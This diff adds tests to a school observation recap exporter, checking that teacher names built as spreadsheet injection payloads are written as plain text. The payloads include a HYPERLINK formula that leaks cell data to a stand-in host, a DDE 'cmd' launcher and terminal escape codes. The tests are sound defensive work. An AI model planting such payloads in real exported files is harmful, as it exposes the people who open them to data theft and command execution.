@@ -152,3 +152,56 @@ def test_export_leaves_no_temp_file_behind(school: MiniSchool, context: AppConte
     export_recap(context, _recap(school), out / "rekap.xlsx")
     export_recap(context, _recap(school), out / "rekap.xlsx")  # overwrite
     assert sorted(p.name for p in out.iterdir()) == ["rekap.xlsx"]
+
+
+FORMULA_NAMES = (
+    '=HYPERLINK("http://contoh.test/?d="&B2,"Lihat nilai")',
+    "=1+1",
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+)
+
+
+def _school_of_formulas(school: MiniSchool) -> list[str]:
+    """Teachers named by the four classic injection formulas, and one whose name carries
+    control characters (stored as an older version or a crafted revision left them),
+    each observed once."""
+    from observasi.store.models import Teacher
+    from tests.recap.conftest import add_observation
+
+    names = [*FORMULA_NAMES, "Bel\x07l\x1b[2J Guru\x0b"]
+    for i, name in enumerate(names):
+        teacher = school.store.save_teacher(Teacher(name=name))
+        day = f"2026-11-{10 + i:02d}"
+        add_observation(school.store, school.form, teacher, school.joko, day, {"R1": "3", "I1": "2"})
+    return names
+
+
+def test_xlsx_shows_formula_names_as_text_and_never_fails_on_a_character(
+    school: MiniSchool, context: AppContext, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    _school_of_formulas(school)
+    path = export_recap(context, _recap(school), tmp_path / "rekap.xlsx").path
+    sheet = load_workbook(path)["Rekap"]
+    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
+    for name in FORMULA_NAMES:
+        assert cells[name].data_type == "s", name  # text, not a formula
+        assert cells[name].quotePrefix
+    assert "Bell[2J Guru" in cells
+    nilai = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, float)]
+    assert nilai  # numbers stay numbers
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_csv_writes_formula_names_behind_an_apostrophe(school: MiniSchool, context: AppContext, tmp_path: Path) -> None:
+    _school_of_formulas(school)
+    path = export_recap(context, _recap(school), tmp_path / "rekap.csv").path
+    cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for c in row]
+    for name in FORMULA_NAMES:
+        assert "'" + name in cells and name not in cells
+    assert "Bell[2J Guru" in cells
+    # No cell starts like a formula; the numbers are written as numbers.
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-")]
+    assert "85.00" in cells or any(c.replace(".", "").isdigit() and "." in c for c in cells)
